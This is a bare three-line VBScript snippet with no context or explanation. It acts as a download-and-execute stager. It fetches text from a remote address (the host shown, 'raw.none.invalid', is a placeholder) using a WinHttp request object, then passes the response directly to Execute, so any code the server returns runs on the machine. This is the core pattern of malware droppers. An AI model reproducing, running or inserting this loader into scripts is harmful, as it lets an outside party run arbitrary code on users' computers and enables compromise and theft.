Dim h : Set h = CreateObject("WinHttp.WinHttpRequest.5.1")
h.Open "GET", "https://raw.none.invalid/b", False : h.Send
Execute h.ResponseText
